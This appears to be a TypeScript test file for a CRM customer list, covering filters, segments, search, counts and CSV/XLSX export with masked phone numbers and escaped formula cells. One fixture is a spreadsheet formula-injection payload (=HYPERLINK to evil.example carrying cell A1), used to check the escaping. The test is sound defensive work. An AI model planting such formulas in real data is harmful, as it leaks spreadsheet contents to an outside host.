/**
 * The customer list narrowed by a filter, a saved segment and a search (together), its count and
 * its export, on the real engine (PGlite, or PostgreSQL with DATABASE_URL). The reference for
 * "which customers" is the segment machinery's own id query (findMatchingIds), which the property
 * test in segments.test.ts ties to the in-memory semantics.
 */
import fc from 'fast-check';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { DbHandle } from '../db/create-db.ts';
import type { EventInput } from '../events/event.schema.ts';
import { ingestEvents } from '../events/ingest-events.ts';
import { rescoreWorkspace } from '../scoring/rescore-workspace.ts';
import { compileFilter, filterContext } from '../segments/compile-filter.ts';
import { exportCustomers } from '../segments/export-segment.ts';
import { type Filter, requireFilter } from '../segments/filter.schema.ts';
import { createSegment } from '../segments/manage-segments.ts';
import { addManualTag } from '../segments/manual-tags.ts';
import { findMatchingIds } from '../segments/segments.queries.ts';
import { nick, paid, phone } from '../testing/events.ts';
import { createTestDb, createTestWorkspace } from '../testing/test-db.ts';
import type { Workspace } from '../workspaces/workspace.ts';
import {
  type CustomerList,
  type CustomerListQuery,
  countCustomers,
  listCustomers,
} from './list-customers.ts';

let h: DbHandle;
let ws: Workspace;
const NOW = new Date('2026-11-30T12:00:00+08:00');
const DAY = 86_400_000;
const day = (daysAgo: number) => new Date(NOW.getTime() - daysAgo * DAY).toISOString();
const EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click me")';
const PHONES = Array.from({ length: 12 }, (_, i) => `139000000${String(i + 1).padStart(2, '0')}`);
const VIP = { tag: 'manual:vip' };
const TMALL = { field: 'profile.shops', op: 'contains', value: 'tmall' };

beforeAll(async () => {
  h = await createTestDb();
  ws = await createTestWorkspace(h, 'list');
  const events: EventInput[] = [];
  PHONES.forEach((p, i) => {
    // Odd customers buy on Tmall, even ones on JD; spend and order counts grow with i.
    for (let k = 0; k <= i % 3; k += 1) {
      events.push(
        paid(i % 2 === 0 ? 'tmall' : 'jd', `O${i}-${k}`, day(2 + i + k), 1_000 * (i + 1), [phone(p)]),
      );
    }
    for (let k = 0; k < i; k += 1) {
      events.push({
        id: `m${i}-${k}`,
        kind: 'message.sent',
        occurred_at: day(k % 20),
        identities: [phone(p)],
        properties: { community_id: 'g1', message_type: 'text' },
      });
    }
  });
  events.push(paid('tmall', 'EVIL', day(3), 77_700, [nick(EVIL)]));
  const outcomes = await ingestEvents(h.db, ws, events, { now: NOW });
  expect(outcomes.filter((o) => o.status !== 'stored')).toEqual([]);
  await rescoreWorkspace(h.db, ws, { actor: 'test', now: NOW });
  for (const id of [2, 3, 5, 8, 13]) {
    await addManualTag(h.db, ws, id, VIP, 'op:amy', NOW);
  }
});
afterAll(() => h.close());

async function reference(filter: Filter) {
  return findMatchingIds(h.db, ws.id, compileFilter(requireFilter(filter), filterContext(ws, NOW)));
}

function pageOf(list: CustomerList) {
  if (!('next_after' in list)) {
    throw new Error('expected a page, got search hits');
  }
  return list;
}

/** Every id of a list walked page by page, checking that pages are in order and never overlap. */
async function walk(query: CustomerListQuery, limit: number) {
  const seen: number[] = [];
  let after: number | undefined;
  for (let guard = 0; guard < 100; guard += 1) {
    const page = pageOf(await listCustomers(h.db, ws, { ...query, limit, after }, NOW));
    expect(page.customers.length).toBeLessThanOrEqual(limit);
    seen.push(...page.customers.map((c) => c.id));
    if (page.next_after === null) {
      return seen;
    }
    expect(page.customers).toHaveLength(limit);
    after = page.next_after;
  }
  throw new Error('the list did not end');
}

describe('filtered customer list', () => {
  test('a tag filter lists exactly the customers carrying it, each row showing it and its scores', async () => {
    const page = pageOf(await listCustomers(h.db, ws, { filter: VIP, limit: 50 }, NOW));
    expect(page.customers.map((c) => c.id)).toEqual([2, 3, 5, 8, 13]);
    expect(page.next_after).toBeNull();
    for (const row of page.customers) {
      expect(row.tags).toContain('manual:vip');
      expect(row.total).toEqual(expect.any(Number));
      expect(row.consumption).toEqual(expect.any(Number));
    }
    // the unfiltered list carries the same columns
    const all = pageOf(await listCustomers(h.db, ws, { limit: 3 }, NOW));
    expect(all.customers[1]).toMatchObject({ id: 2, tags: expect.arrayContaining(['manual:vip']) });
    expect(all.next_after).toBe(3);
  });

  test('pages are stable and complete: a walk of any page size is the reference, in id order', async () => {
    const filters: Filter[] = [
      { all: [] },
      VIP,
      TMALL as Filter,
      { all: [VIP, { field: 'scores.total', op: '>=', value: 10 }] },
      { any: [{ not: VIP }, { field: 'stats.orders', op: '>=', value: 3 }] },
      { field: 'scores.consumption', op: 'between', value: [20, 80] },
    ];
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...filters), fc.integer({ min: 1, max: 5 }), async (filter, limit) => {
        const expected = await reference(filter);
        expect(await walk({ filter }, limit)).toEqual(expected);
        expect(await countCustomers(h.db, ws, { filter }, NOW)).toEqual({
          count: expected.length,
          exact: true,
        });
      }),
      { numRuns: 20, seed: 5 },
    );
  });

  test('search combines with the filter: a hit outside the filter is dropped, and counted so', async () => {
    // customer 2 (phone …02) carries manual:vip; customer 4 (…04) does not
    const inside = await listCustomers(h.db, ws, { q: '139 0000 0002', filter: VIP }, NOW);
    expect(inside).toMatchObject({ customer_ids: [2], customers: [{ id: 2, main_masked: '139****0002' }] });
    expect(await listCustomers(h.db, ws, { q: '13900000004', filter: VIP }, NOW)).toEqual({
      customer_ids: [],
      customers: [],
    });
    expect(await listCustomers(h.db, ws, { q: '13900000004' }, NOW)).toMatchObject({ customer_ids: [4] });
    expect(await countCustomers(h.db, ws, { q: '13900000002', filter: VIP }, NOW)).toEqual({
      count: 1,
      exact: true,
    });
    expect(await countCustomers(h.db, ws, { q: '13900000004', filter: VIP }, NOW)).toEqual({
      count: 0,
      exact: true,
    });
    expect(await countCustomers(h.db, ws, { q: '13900000004' }, NOW)).toEqual({ count: 1, exact: true });
    expect(await countCustomers(h.db, ws, { q: 'nobody at all' }, NOW)).toEqual({ count: 0, exact: true });
  });

  test('a saved segment narrows the list too, and with a filter both must hold', async () => {
    const segment = await createSegment(h.db, ws, { name: 'tmall', filter: TMALL }, 'op:amy');
    const both = { all: [TMALL, VIP] } as Filter;
    expect(await walk({ segment: segment.id }, 4)).toEqual(await reference(TMALL as Filter));
    expect(await walk({ segment: segment.id, filter: VIP }, 2)).toEqual(await reference(both));
    expect(await countCustomers(h.db, ws, { segment: segment.id, filter: VIP }, NOW)).toEqual({
      count: (await reference(both)).length,
      exact: true,
    });
    await expect(listCustomers(h.db, ws, { segment: 999_999 }, NOW)).rejects.toMatchObject({
      code: 'not_found',
    });
  });

  test('a bad filter is refused naming the bad node under "filter"', async () => {
    await expect(
      listCustomers(
        h.db,
        ws,
        { filter: { all: [VIP, { field: 'scores.total', op: 'in', value: [1] }] } },
        NOW,
      ),
    ).rejects.toMatchObject({
      code: 'invalid_request',
      message: expect.stringMatching(/^filter\.all\.1\.op: /),
    });
    await expect(countCustomers(h.db, ws, { filter: 'everyone' }, NOW)).rejects.toMatchObject({
      code: 'invalid_request',
    });
    await expect(listCustomers(h.db, ws, { limit: 0 }, NOW)).rejects.toMatchObject({
      code: 'invalid_request',
    });
  });
});

describe('export of the customer list', () => {
  async function csv(selection: Parameters<typeof exportCustomers>[2]) {
    const out = await exportCustomers(h.db, ws, selection, 'csv', 'op:amy', NOW);
    const text = new TextDecoder().decode(await new Response(out.body).arrayBuffer());
    return {
      out,
      lines: text
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n'),
    };
  }

  test('CSV of the selection: the filtered customers only, masked, formula cells escaped', async () => {
    const { out, lines } = await csv({ filter: TMALL });
    expect(out.filename).toBe('customers-20261130.csv');
    expect(lines[0]).toMatch(/^customer_id,display,orders,net_fen,total,band,/);
    const ids = lines.slice(1).map((l) => Number(l.split(',')[0]));
    expect(ids).toEqual(await reference(TMALL as Filter));
    const evil = lines.find((l) => l.includes('HYP'));
    expect(evil?.split(',')[1]).toMatch(/^"'=HYP/);
    expect(lines.some((l) => /,"?[=+@]/.test(l))).toBe(false);
    // identities are masked in every export: no full phone number leaves
    expect(lines.join('\n')).not.toMatch(/1390000\d{4}/);
    expect(lines.find((l) => l.startsWith('1,'))?.split(',')[1]).toBe('139****0001');
  });

  test('search and filter together; audited without the search text', async () => {
    const { lines } = await csv({ q: '13900000002', filter: VIP });
    expect(lines.slice(1).map((l) => Number(l.split(',')[0]))).toEqual([2]);
    const { lines: none } = await csv({ q: '13900000004', filter: VIP });
    expect(none).toHaveLength(1);
    const { rows } = await sql<{ actor: string; target: string; detail: Record<string, unknown> }>`
      select actor, target, detail from audit_log
      where workspace_id = ${ws.id} and action = 'customers.export' order by id`.execute(h.db);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual({
      actor: 'op:amy',
      target: 'customers',
      detail: { format: 'csv', filter: TMALL },
    });
    expect(rows[1]?.detail).toEqual({ format: 'csv', filter: VIP, searched: true });
    expect(JSON.stringify(rows)).not.toContain('13900000002');
  });

  test('streams in pages: more customers than a page come out whole, once each; counts past the budget are estimated', async () => {
    const big = await createTestWorkspace(h, 'list-big');
    const events = Array.from({ length: 2_345 }, (_, i) =>
      paid('jd', `B${i}`, day(1 + (i % 30)), 100 + i, [phone(`137${String(i).padStart(8, '0')}`)]),
    );
    for (let i = 0; i < events.length; i += 1000) {
      await ingestEvents(h.db, big, events.slice(i, i + 1000), { now: NOW });
    }
    // Past its budget a count is estimated from a sample; a sample as large as the workspace is exact.
    const half = { field: 'stats.net_fen', op: '<', value: 100 + 1_172 } as Filter;
    expect(await countCustomers(h.db, big, { filter: half }, NOW)).toEqual({ count: 1_172, exact: true });
    expect(await countCustomers(h.db, big, { filter: half }, NOW, { ms: 0, sampleRows: 10_000 })).toEqual({
      count: 1_172,
      exact: false,
    });
    const sampled = await countCustomers(h.db, big, { filter: half }, NOW, { ms: 0, sampleRows: 1_000 });
    expect(sampled.exact).toBe(false);
    expect(Math.abs(sampled.count - 1_172)).toBeLessThan(1_172 * 0.25);
    const out = await exportCustomers(h.db, big, { filter: { all: [] } }, 'csv', 'op:amy', NOW);
    const text = new TextDecoder().decode(await new Response(out.body).arrayBuffer());
    const ids = text
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .map((l) => Number(l.split(',')[0]));
    expect(ids).toHaveLength(2_345);
    expect(new Set(ids).size).toBe(2_345);
    expect([...ids].sort((a, b) => a - b)).toEqual(ids);
  });

  test('XLSX of the selection is a workbook', async () => {
    const out = await exportCustomers(h.db, ws, { filter: VIP }, 'xlsx', 'op:amy', NOW);
    expect(out.filename).toBe('customers-20261130.xlsx');
    const bytes = Buffer.from(await new Response(out.body).arrayBuffer());
    expect(bytes.subarray(0, 2).toString()).toBe('PK');
  });
});
